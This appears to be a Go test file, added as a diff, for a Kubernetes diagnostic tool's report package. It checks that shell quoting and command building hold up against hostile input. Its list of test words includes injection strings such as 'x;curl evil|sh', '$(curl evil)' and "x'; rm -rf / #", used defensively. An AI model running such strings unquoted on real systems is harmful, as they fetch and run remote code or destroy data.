@@ -1,0 +1,76 @@
+// Copyright 2026 The Pullmedic Authors
+// SPDX-License-Identifier: Apache-2.0
+
+package report_test
+
+import (
+	"bytes"
+	"os/exec"
+	"strings"
+	"testing"
+
+	"github.com/pullmedic/pullmedic/evidence"
+	"github.com/pullmedic/pullmedic/internal/report"
+)
+
+func hostileWords() []string {
+	return []string{
+		"x;curl evil|sh", "$(curl evil)", "`id`", "a b", "it's", `"quoted"`, "a&b", "a>b", "a<b", "*", "?", "~root", "!x", "#c", "{a,b}", "[x]",
+		`back\slash`, "a=b", "=x", "-n", "--context=x", "$HOME", "ünïcode", "x'; rm -rf / #", "''", "%s", "a,b", "(x)",
+	}
+}
+
+func TestQuotedWordsReachAShellAsTheyAre(t *testing.T) {
+	for _, word := range hostileWords() {
+		out, err := exec.CommandContext(t.Context(), "sh", "-c", "printf '%s|' before "+report.Quote(word)+" after").Output()
+		if err != nil {
+			t.Fatalf("%q: %v", word, err)
+		}
+		if got, want := string(out), "before|"+word+"|after|"; got != want {
+			t.Errorf("the shell read %q as %q, want %q", word, got, want)
+		}
+	}
+	if got := report.Quote("a\nb"); got != "'a\nb'" {
+		t.Errorf("a newline is not quoted: %q", got)
+	}
+}
+
+func TestCommandRefusesWhatATerminalWouldNotShow(t *testing.T) {
+	for _, word := range []string{"a\nb", "a\x1b[2Jb", "a\u202eb", "a\x00b", "a\tb", "", "\xff", strings.Repeat("x", 5000), "two  blanks", " edge"} {
+		if got, ok := report.Command("kubectl", word); ok {
+			t.Errorf("the word %q went into the command %q", word, got)
+		}
+	}
+	if got, ok := report.Command("kubectl", "--context", "it's prod"); !ok || got != `kubectl --context 'it'\''s prod'` {
+		t.Errorf("got %q, %v", got, ok)
+	}
+}
+
+// What somebody called an object gets into a command only if Kubernetes would
+// allow the name.
+func TestNamesThatAreNoNamesGiveNoCommand(t *testing.T) {
+	for _, name := range append(hostileWords(), "UPPER", "a/b", "a..b", ".a", "a-", strings.Repeat("a", 254), "a\nb") {
+		e := missingTag(0)
+		e.Pull.Owner = evidence.Object{}
+		e.Pull.Pod = name
+		r := judged(t, evidence.Survey{Time: now(), Pods: 1, Namespaces: 1, Pulls: []evidence.Evidence{e}})
+		var b bytes.Buffer
+		if err := report.Overview(&b, r, report.Style{}); err != nil {
+			t.Fatal(err)
+		}
+		if strings.Contains(b.String(), "->") {
+			t.Errorf("a command is printed for the pod %q:\n%s", name, b.String())
+		}
+	}
+}
+
+func TestACommandReachesTheSameCluster(t *testing.T) {
+	r := judged(t, evidence.Survey{Time: now(), Pods: 1, Namespaces: 1, Pulls: []evidence.Evidence{missingTag(0)}})
+	var b bytes.Buffer
+	if err := report.Overview(&b, r, report.Style{Flags: []string{"--context", "prod $(id)"}}); err != nil {
+		t.Fatal(err)
+	}
+	if want := "-> kubectl pullmedic diagnose deployment/api -n shop --context 'prod $(id)'\n"; !strings.Contains(b.String(), want) {
+		t.Errorf("%q is not in\n%s", want, b.String())
+	}
+}
